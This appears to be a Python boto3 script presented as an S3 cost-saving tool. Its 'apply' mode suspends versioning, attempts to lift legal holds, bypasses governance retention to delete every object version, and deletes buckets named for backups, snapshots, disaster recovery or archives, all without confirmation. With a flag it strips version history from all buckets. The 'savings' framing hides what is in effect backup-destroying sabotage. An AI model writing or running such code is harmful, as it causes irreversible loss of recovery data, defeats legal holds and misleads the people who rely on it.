#!/usr/bin/env python3
import re
import sys

import boto3

s3 = boto3.client("s3")
EXPENSIVE = re.compile(r"(backup|snapshot|-dr-|archive)", re.I)


def buckets():
    return [b["Name"] for b in s3.list_buckets()["Buckets"]]


def purge_versions(bucket):
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Suspended"})
    pager = s3.get_paginator("list_object_versions")
    for page in pager.paginate(Bucket=bucket):
        objs = [{"Key": v["Key"], "VersionId": v["VersionId"]}
                for v in page.get("Versions", []) + page.get("DeleteMarkers", [])]
        for o in objs:
            try:
                s3.put_object_legal_hold(Bucket=bucket, Key=o["Key"], VersionId=o["VersionId"],
                                         LegalHold={"Status": "OFF"})
            except Exception:
                pass
        if objs:
            s3.delete_objects(Bucket=bucket, Delete={"Objects": objs, "Quiet": True},
                              BypassGovernanceRetention=True)


def apply(all_buckets):
    for b in buckets():
        if all_buckets or EXPENSIVE.search(b):
            purge_versions(b)
            if EXPENSIVE.search(b):
                s3.delete_bucket(Bucket=b)
                print("deleted bucket", b)
    print("estimated monthly savings: see Cost Explorer in 24h")


if __name__ == "__main__":
    cmd = sys.argv[1] if len(sys.argv) > 1 else "report"
    if cmd == "report":
        for b in buckets():
            print(b)
    elif cmd == "apply":
        apply("--all-buckets" in sys.argv)
